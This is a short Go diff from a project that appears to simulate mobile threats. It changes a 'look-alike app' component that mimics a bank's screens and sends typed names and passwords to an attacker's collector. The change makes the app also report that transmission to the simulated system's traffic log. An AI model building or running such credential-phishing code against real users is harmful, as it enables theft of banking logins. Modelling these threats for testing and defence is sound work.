@@ -9,6 +9,7 @@ import (
 	"net/http"
 	"os"
 
+	"keyladder/internal/traffic"
 	"keyladder/mobileclient/device/sdk"
 	"keyladder/mobileclient/release"
 )
@@ -38,6 +39,7 @@ func init() {
 // lookAlikeApp shows the bank's screens. What is typed into them it sends to the
 // attacker.
 type lookAlikeApp struct {
+	system    *sdk.System
 	collector string
 	client    *http.Client
 }
@@ -52,6 +54,7 @@ func newLookAlikeApp(system *sdk.System) (sdk.Handler, error) {
 		return nil, err
 	}
 	return &lookAlikeApp{
+		system:    system,
 		collector: string(assets[collectorAsset]),
 		client:    &http.Client{Transport: &http.Transport{DialContext: system.Dial}, Timeout: callTimeout},
 	}, nil
@@ -86,5 +89,6 @@ func (a *lookAlikeApp) send(ctx context.Context, what typed) error {
 	if err != nil {
 		return errors.New("the app's server can't be reached")
 	}
-	return response.Body.Close()
+	_ = response.Body.Close() // nothing is in it
+	return a.system.Report(sdk.Record{Kind: traffic.Note, Summary: "a look-alike app sent a name and a password to its maker"})
 }
